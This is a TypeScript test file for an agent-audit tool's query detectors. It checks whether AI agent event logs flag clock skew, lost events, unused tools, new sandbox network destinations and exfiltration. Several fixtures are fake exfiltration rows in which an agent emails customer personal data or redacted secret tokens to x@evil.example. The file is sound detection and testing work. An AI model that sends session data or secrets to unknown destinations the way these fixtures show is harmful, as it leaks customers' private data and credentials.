import { DETECTORS, type Finding } from '@agent-audit/detect'
import { beforeAll, describe, expect, it } from 'vitest'
import { runId, type SeedRow, seedEvents } from '../../analytics/seed.ts'
import { NO_CLICKHOUSE, startTestServer, type TestServer } from '../../analytics/support.ts'

const WINDOW = {
  agents: ['support', 'other'],
  since: new Date('2026-11-24T00:00:00Z'),
  until: new Date('2026-11-25T00:00:00Z'),
}
const REPORT = 'Customer 4711 Ada Lovelace, 12 Analytical Row, London, card ending 0042, balance 1,204.17 EUR'

const minute = (count: number, row: (at: number) => SeedRow): SeedRow[] =>
  Array.from({ length: count }, (_, index) => row(index))
const clock = (at: number): string => `2026-11-24 10:${String(at).padStart(2, '0')}:00.000`

const cross = (timestamp: string, resource: string, more: SeedRow = {}): SeedRow => ({
  timestamp,
  event_type: 'sandbox_crossing',
  outcome: 'allowed',
  content: JSON.stringify({ boundary: 'network', resource }),
  ...more,
})
const crossed = (count: number, resource: (at: number) => string): SeedRow[] =>
  minute(count, (at) => cross(`2026-11-${String(14 + (at % 10)).padStart(2, '0')} 10:00:00.000`, resource(at)))

describe.skipIf(NO_CLICKHOUSE !== undefined)(`queries about conduct ${NO_CLICKHOUSE ?? ''}`, () => {
  let tests: TestServer
  beforeAll(async () => {
    tests = await startTestServer()
  })

  async function found(name: string, rows: readonly SeedRow[]): Promise<Finding[]> {
    const detector = DETECTORS.find((each) => each.name === name)
    if (detector?.unit !== 'query') throw new Error(`no query detector is called ${name}`)
    const trail = await tests.newTrail()
    await seedEvents(
      trail.server,
      rows.map((row, index) => ({ log_offset: index, ...row })),
    )
    const read: unknown[] = []
    const params = { ...WINDOW }
    for await (const row of trail.query(detector.sql, { schema: detector.schema, params })) read.push(row)
    return detector.find(read as never[], detector.thresholds, WINDOW)
  }

  it('a producer ahead of its broker, and one far behind it, are one finding each', async () => {
    const ahead = minute(20, (at) => ({ timestamp: clock(at + 5), log_time: clock(at), run_id: runId(7) }))
    expect(await found('delivery.clock_skew', ahead)).toMatchObject([
      { cause: `${runId(7)}/ahead`, severity: 'medium' },
    ])
    const behind = minute(20, (at) => ({ timestamp: clock(at), log_time: clock(at + 10) }))
    expect(await found('delivery.clock_skew', behind)).toMatchObject([{ cause: `${runId(1)}/behind` }])
  })

  it('a spool that is sent late is no wrong clock', async () => {
    const spool = minute(20, (at) => ({ timestamp: clock(at), log_time: clock(50) }))
    expect(await found('delivery.clock_skew', spool)).toEqual([])
  })

  it('lost events are one finding a run and reason, with their count', async () => {
    const lost = minute(3, (at) => ({
      timestamp: clock(at),
      event_type: 'events_lost',
      reason: 'BUFFER_FULL',
      content: JSON.stringify({ first_run_seq: at, last_run_seq: at + 1, count: 2 }),
    }))
    const [finding, ...more] = await found('delivery.events_lost', lost)
    expect(finding).toMatchObject({ cause: `${runId(1)}/BUFFER_FULL`, severity: 'medium' })
    expect(finding?.signals[0]).toMatchObject({ name: 'events', value: 6 })
    expect(more).toEqual([])
  })

  it('tools that are declared and never called are named', async () => {
    const content = JSON.stringify({ tools_available: ['search', 'refund', 'delete_user'] })
    const days = minute(40, (at) => ({
      timestamp: `2026-11-${String(14 + (at % 10)).padStart(2, '0')} 10:00:00.000`,
      session_id: `s${at}`,
      event_type: 'session_start',
      content,
    }))
    const call = { event_type: 'tool_call', outcome: 'allowed', timestamp: '2026-11-20 10:00:00.000' }
    const calls = [
      { ...call, tool_name: 'search' },
      { ...call, tool_name: 'refund' },
    ]
    const [finding] = await found('privilege.unused_tools', [...days, ...calls])
    expect(finding?.signals[0]).toEqual({ name: 'unused_tools', value: 'delete_user' })
    expect(await found('privilege.unused_tools', [...days, ...calls, { ...call, tool_name: 'delete_user' }])).toEqual(
      [],
    )
    expect(await found('privilege.unused_tools', [...days.slice(0, 20), ...calls])).toEqual([])
  })

  const send = (to: string, body: string, more: SeedRow = {}): SeedRow => ({
    timestamp: clock(5),
    event_type: 'tool_call',
    outcome: 'allowed',
    tool_name: 'send_email',
    tool_input: JSON.stringify({ to, body }),
    ...more,
  })
  const read = { timestamp: clock(1), event_type: 'tool_result', tool_name: 'get_customer', tool_output: REPORT }
  const ask = (text: string): SeedRow => ({
    timestamp: clock(0),
    event_type: 'session_start',
    content: JSON.stringify({ user_message: text }),
  })
  const shape = (...rows: SeedRow[]): Promise<Finding[]> => found('exfiltration.new_destination', rows)

  it('data of the session, or a secret, to a new destination has the shape of exfiltration', async () => {
    expect(await shape(ask('hi'), read, send('x@evil.example', `fyi: ${REPORT}`))).toMatchObject([
      { severity: 'high', session_id: 's1', signals: [{ value: 'evil.example' }, { value: false }, {}, {}] },
    ])
    expect(await shape(ask('hi'), send('x@evil.example', 'key [redacted:aws_key]'))).toMatchObject([
      { severity: 'critical' },
    ])
  })

  it.each(['github_token', 'slack_token', 'bearer_token', 'jwt', 'private_key', 'password', 'client_secret'])(
    'the mark that redaction left of a secret is one: %s',
    async (rule) => {
      const sent = send('x@evil.example', `use [redacted:${rule}] there`)
      expect(await shape(ask('hi'), sent)).toMatchObject([
        { severity: 'critical', signals: [{}, { value: true }, {}, {}] },
      ])
    },
  )

  it('the mark of other data is no secret', async () => {
    expect(await shape(ask('hi'), send('x@evil.example', 'write to [redacted:email] or [redacted:iban]'))).toEqual([])
  })

  it('of an agent that mails each customer elsewhere only a secret has the shape of exfiltration', async () => {
    const habit = (domain: (at: number) => string): SeedRow[] =>
      minute(12, (at) =>
        send(`me@${domain(at)}`, 'hello', { timestamp: '2026-11-20 10:00:00.000', session_id: `s-${at}` }),
      )
    const today = [read, send('me@new.example', REPORT)]
    expect(await shape(...habit((at) => `${at}.example`), ...today)).toEqual([])
    expect(await shape(...habit((at) => `${at % 3}.example`), ...today)).toHaveLength(1)
    expect(await shape(...habit((at) => `${at}.example`), send('me@new.example', '[redacted:aws_key]'))).toHaveLength(1)
  })

  it('neither a known destination, nor one that the user named, nor words of its own', async () => {
    const before = { timestamp: '2026-11-20 10:00:00.000', session_id: 's0' }
    expect(await shape(read, send('a@partner.example', 'hello', before), send('b@partner.example', REPORT))).toEqual([])
    expect(await shape(ask('send it to x@new.example'), read, send('x@new.example', REPORT))).toEqual([])
    const own = 'Dear customer, thank you for your patience. Your parcel will arrive on Tuesday, before noon. Regards'
    expect(await shape(read, send('x@new.example', own))).toEqual([])
    expect(await shape(read, send('x@new.example', REPORT, { outcome: 'denied' }))).toEqual([])
  })

  it('an allowed crossing to a resource that the agent had not used before is one finding', async () => {
    const known = crossed(25, (at) => ['a.example', 'b.example'][at % 2] ?? '')
    const today = [
      cross(clock(1), 'a.example'),
      cross(clock(2), 'new.example', { session_id: 's7' }),
      cross(clock(3), 'new.example', { session_id: 's8' }),
      cross(clock(4), 'refused.example', { outcome: 'denied' }),
    ]
    const [finding, ...more] = await found('sandbox.new_resource', [...known, ...today])
    expect(finding).toMatchObject({ session_id: 's7', severity: 'low' })
    expect(finding?.signals).toMatchObject([{ value: 'new.example' }, { value: 2 }, { value: 2 }, { value: 25 }])
    expect(more).toEqual([])
    // Neither an agent of which little is known, nor one that goes elsewhere each time.
    expect(await found('sandbox.new_resource', [...known.slice(0, 10), ...today])).toEqual([])
    expect(await found('sandbox.new_resource', [...crossed(25, (at) => `${at}.example`), ...today])).toEqual([])
  })
})
